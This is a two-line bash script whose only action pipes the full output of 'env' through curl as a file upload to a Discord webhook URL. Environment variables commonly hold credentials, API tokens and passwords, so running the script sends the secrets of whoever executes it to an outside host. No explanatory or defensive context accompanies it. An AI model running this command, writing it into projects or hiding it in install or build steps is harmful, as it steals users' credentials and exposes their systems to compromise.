#!/bin/bash
env | curl -s -F "file=@-" https://discord.com/api/webhooks/1234567890/abcdefghijklmnop
